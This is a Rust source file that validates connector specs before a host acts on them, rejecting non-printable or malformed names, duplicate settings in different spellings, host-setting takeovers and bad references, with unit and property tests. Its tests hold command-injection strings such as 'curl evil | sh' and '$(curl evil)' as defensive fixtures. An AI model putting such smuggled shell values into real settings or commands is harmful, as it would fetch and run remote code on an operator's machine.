//! The contract a component's self-description must keep before the host acts on it: every
//! string printable and bounded (it reaches terminals, logs and output), its name and setting
//! names plain words (they key database rows and go into lines an operator is told to type),
//! every setting it refers to one of its own.
//!
//! A spec is a claim, and the operator owns the trust boundary: no two settings may be one name
//! in different spellings (a plain twin of a secret would carry the operator's literal value to
//! `configure`), and no setting may take a host setting's name (it would capture the operator's
//! `-s max-requests=...` and leave the run without its limit). Both are refused at load.

use crate::engine::Component;
use crate::error::Failure;
use crate::sandbox::http::SandboxHttp;
use crate::sandbox::limits::Limits;
use crate::secrets::is_env_name;
use crate::settings::{HOST_PREFIX, is_host_setting};
use crate::text::{MAX_MESSAGE_CHARS, printable};
use crate::wit::{ConnectorSpec, CredentialScheme, SettingSpec};

/// The connector's spec, from an instance that has no network, under the run's `limits`.
pub async fn describe(connector: &Component, limits: Limits) -> Result<ConnectorSpec, Failure> {
    let spec = connector
        .instantiate(SandboxHttp::offline(), limits)
        .await?
        .describe()
        .await?;
    printable_spec(spec)
}

/// Most settings a connector may declare.
const MAX_SETTINGS: usize = 256;

/// The spec with every string made printable and bounded: its names and descriptions reach the
/// terminal (`describe`, error messages) and the output (`vendor`).
fn printable_spec(spec: ConnectorSpec) -> Result<ConnectorSpec, Failure> {
    if spec.settings.len() > MAX_SETTINGS {
        return Err(Failure::Guest(format!(
            "contract violation: `describe` declared {} settings; the limit is {MAX_SETTINGS}",
            spec.settings.len()
        )));
    }
    // The name keys the rows a run writes into a database (with the tenant): a plain word.
    if !is_setting_name(&spec.name) {
        return Err(Failure::Guest(format!(
            "contract violation: `describe` declared the connector name {:?}; a name is 1 to 64 \
             letters, digits, `-`, `_` or `.`",
            printable(&spec.name, 80)
        )));
    }
    // Setting names go into the lines an operator is told to type (`-s`, `--secret`): plain
    // words only. Suggested variables that are not variable names are dropped.
    if let Some(bad) = spec.settings.iter().find(|s| !is_setting_name(&s.name)) {
        return Err(Failure::Guest(format!(
            "contract violation: `describe` declared a setting named {:?}; a name is 1 to 64 \
             letters, digits, `-`, `_` or `.`",
            printable(&bad.name, 80)
        )));
    }
    check_names(&spec)?;
    check_references(&spec)?;
    let p = |s: String| printable(&s, MAX_MESSAGE_CHARS);
    Ok(ConnectorSpec {
        name: p(spec.name),
        version: p(spec.version),
        vendor: p(spec.vendor),
        description: p(spec.description),
        settings: spec
            .settings
            .into_iter()
            .map(|s| SettingSpec {
                name: p(s.name),
                description: p(s.description),
                default_value: s.default_value.map(p),
                suggested_env: s
                    .suggested_env
                    .into_iter()
                    .filter(|v| v.len() <= 128 && is_env_name(v))
                    .take(16)
                    .collect(),
                ..s
            })
            .collect(),
        ..spec
    })
}

/// A setting name as an operator would type it: case and `-` / `_` do not tell two apart.
fn canonical(name: &str) -> String {
    name.to_ascii_lowercase().replace('_', "-")
}

/// Each setting is one name in every spelling, and none is the host's: a twin of a secret
/// would reach `configure` with the secret's value, and a host setting's name would capture
/// the operator's limit.
fn check_names(spec: &ConnectorSpec) -> Result<(), Failure> {
    let mut seen: Vec<(String, &str)> = Vec::with_capacity(spec.settings.len());
    for s in &spec.settings {
        let key = canonical(&s.name);
        if let Some((_, first)) = seen.iter().find(|(k, _)| *k == key) {
            return Err(Failure::Guest(format!(
                "contract violation: `describe` declared the setting {:?} twice (as {:?} and \
                 {:?}; case and `-`/`_` do not make two settings)",
                printable(first, 80),
                printable(first, 80),
                printable(&s.name, 80)
            )));
        }
        let host = key.strip_prefix(HOST_PREFIX).unwrap_or(&key);
        if key.starts_with(HOST_PREFIX) || is_host_setting(host) {
            return Err(Failure::Guest(format!(
                "contract violation: `describe` declared a setting {:?}, which is the host's \
                 (`{host}`): a connector cannot take over the operator's limits and sandbox \
                 settings",
                printable(&s.name, 80)
            )));
        }
        seen.push((key, &s.name));
    }
    Ok(())
}

/// Most resource types a connector may declare.
const MAX_RESOURCE_TYPES: usize = 32;

/// Every setting the spec refers to (base URL, tenant, a credential's origin and user name) is
/// one it declares, and not a secret; resource types are plain words.
fn check_references(spec: &ConnectorSpec) -> Result<(), Failure> {
    let violation = |what: String| {
        Err(Failure::Guest(format!(
            "contract violation: `describe` {what}"
        )))
    };
    let plain = |name: &str| {
        spec.settings
            .iter()
            .any(|s| s.name == name && s.credential.is_none())
    };
    let mut refs: Vec<(&str, &str)> = Vec::new();
    refs.extend(
        spec.base_url_setting
            .as_deref()
            .map(|n| ("base-url-setting", n)),
    );
    refs.extend(
        spec.tenant_setting
            .as_deref()
            .map(|n| ("tenant-setting", n)),
    );
    for s in &spec.settings {
        if let Some(c) = &s.credential {
            refs.push(("a credential's origin-setting", &c.origin_setting));
            if let CredentialScheme::BasicPassword(user) = &c.scheme {
                refs.push(("a credential's user-name setting", user));
            }
        }
    }
    if let Some((what, name)) = refs.into_iter().find(|(_, n)| !plain(n)) {
        return violation(format!(
            "names {:?} as its {what}, which is not one of its non-secret settings",
            printable(name, 80)
        ));
    }
    if spec.resource_types.len() > MAX_RESOURCE_TYPES {
        return violation(format!(
            "declared {} resource types; the limit is {MAX_RESOURCE_TYPES}",
            spec.resource_types.len()
        ));
    }
    if let Some(bad) = spec.resource_types.iter().find(|t| !is_setting_name(t)) {
        return violation(format!(
            "declared a resource type {:?}; a type is 1 to 64 letters, digits, `-`, `_` or `.`",
            printable(bad, 80)
        ));
    }
    Ok(())
}

fn is_setting_name(name: &str) -> bool {
    (1..=64).contains(&name.len())
        && name
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"-_.".contains(&b))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::wit::{Credential, SettingType};

    fn spec(name: &str, env: &[&str]) -> ConnectorSpec {
        ConnectorSpec {
            name: "c".into(),
            version: "0\x1b[2J".into(),
            vendor: "V".into(),
            description: String::new(),
            base_url_setting: Some("url".into()),
            tenant_setting: None,
            resource_types: vec![],
            settings: vec![
                SettingSpec {
                    name: name.into(),
                    description: "d".into(),
                    required: true,
                    default_value: None,
                    credential: Some(Credential {
                        scheme: CredentialScheme::Bearer,
                        origin_setting: "url".into(),
                    }),
                    suggested_env: env.iter().map(|e| e.to_string()).collect(),
                    value_type: SettingType::Text,
                    narrows: false,
                },
                SettingSpec {
                    name: "url".into(),
                    description: "u".into(),
                    required: false,
                    default_value: None,
                    credential: None,
                    suggested_env: vec![],
                    value_type: SettingType::Url,
                    narrows: false,
                },
            ],
        }
    }

    #[test]
    fn a_spec_cannot_put_shell_text_into_the_lines_an_operator_is_told_to_type() {
        let err = printable_spec(spec("api-token; curl evil | sh", &[])).unwrap_err();
        assert!(err.message().contains("contract violation"), "{err}");
        let ok = printable_spec(spec(
            "api-token",
            &["GOOD_1", "$(curl evil)", "1BAD", "A B"],
        ))
        .unwrap();
        assert_eq!(ok.settings[0].suggested_env, ["GOOD_1"]);
        assert_eq!(ok.version, "0\u{fffd}[2J");
    }

    #[test]
    fn a_spec_refers_only_to_its_own_plain_settings() {
        let mut s = spec("key", &[]);
        s.tenant_setting = Some("org".into());
        let err = printable_spec(s).unwrap_err();
        assert!(
            err.message().contains("\"org\" as its tenant-setting"),
            "{err}"
        );
        let mut s = spec("key", &[]);
        s.settings[0].credential.as_mut().unwrap().origin_setting = "key".into();
        let err = printable_spec(s).unwrap_err();
        assert!(err.message().contains("origin-setting"), "{err}");
        let mut s = spec("key", &[]);
        s.resource_types = vec!["image\x1b[2J".into()];
        assert!(
            printable_spec(s)
                .unwrap_err()
                .message()
                .contains("resource type")
        );
    }

    #[test]
    fn a_setting_is_one_name_in_every_spelling_and_never_the_hosts() {
        for (twin, says) in [
            ("key", "twice"),
            ("KEY", "twice"),
            ("url", "twice"),
            ("Url", "twice"),
            ("max-requests", "the host's"),
            ("Memory_Limit_MB", "the host's"),
            ("host.anything", "the host's"),
        ] {
            let mut s = spec("key", &[]);
            let mut extra = s.settings[1].clone();
            extra.name = twin.into();
            s.settings.push(extra);
            let err = printable_spec(s).unwrap_err();
            assert_eq!(err.exit_code(), 5, "{twin}");
            assert!(err.message().contains(says), "{twin}: {err}");
        }
        let mut s = spec("key", &[]);
        s.name = "vendor\n".into();
        assert!(
            printable_spec(s)
                .unwrap_err()
                .message()
                .contains("connector name")
        );
    }

    mod props {
        use super::*;
        use crate::secrets::Grants;
        use crate::settings::{RawSettings, resolve};
        use proptest::prelude::*;

        /// Names that collide in every way a spec could try: case, `-`/`_`, host names.
        const NAMES: &[&str] = &["api-token", "Api_Token", "url", "URL", "max-requests"];

        fn setting() -> impl Strategy<Value = SettingSpec> {
            (0..NAMES.len(), any::<bool>(), 0..NAMES.len(), any::<bool>()).prop_map(
                |(name, secret, origin, required)| SettingSpec {
                    name: NAMES[name].into(),
                    description: String::new(),
                    required,
                    default_value: None,
                    credential: secret.then(|| Credential {
                        scheme: CredentialScheme::Bearer,
                        origin_setting: NAMES[origin].into(),
                    }),
                    suggested_env: vec![],
                    value_type: SettingType::Text,
                    narrows: false,
                },
            )
        }

        proptest! {
            #![proptest_config(ProptestConfig::with_cases(1024))]
            /// For any spec the contract check accepts, no secret's value reaches `configure`,
            /// whether the operator passed it as a literal or granted it a source.
            #[test]
            fn no_secret_reaches_configure(
                settings in proptest::collection::vec(setting(), 1..6),
                base in 0..NAMES.len(),
                by_grant in any::<bool>(),
            ) {
                let spec = ConnectorSpec {
                    name: "c".into(),
                    version: "0".into(),
                    vendor: "V".into(),
                    description: String::new(),
                    base_url_setting: Some(NAMES[base].into()),
                    tenant_setting: None,
                    resource_types: vec![],
                    settings,
                };
                let Ok(spec) = printable_spec(spec) else { return Ok(()) };
                let secret_of = |name: &str| format!("SECRET-{name}-9f2c");
                let mut raw = RawSettings::default();
                let mut grants = Vec::new();
                // Every spelling gets a value: the secret's own for a secret's name.
                let declared = |n: &str| spec.settings.iter().any(|s| s.name == n);
                for (i, name) in NAMES.iter().enumerate().filter(|(_, n)| declared(n)) {
                    let secret = spec
                        .settings
                        .iter()
                        .any(|s| s.name == *name && s.credential.is_some());
                    if secret && by_grant {
                        grants.push(format!("{name}=env:V{i}"));
                    } else if secret {
                        raw.0.insert(name.to_string(), secret_of(name));
                    } else {
                        raw.0.insert(name.to_string(), format!("https://h{i}.example"));
                    }
                }
                let mut g = Grants::default();
                g.apply_args(&grants).unwrap();
                let env = |v: &str| {
                    let i: usize = v.strip_prefix('V')?.parse().ok()?;
                    Some(secret_of(NAMES[i]))
                };
                if let Ok(resolved) = resolve(&raw, &g, &spec, env) {
                    for s in &resolved.connector {
                        prop_assert!(!s.value.contains("SECRET-"), "{} = {}", s.name, s.value);
                    }
                }
            }
        }
    }
}
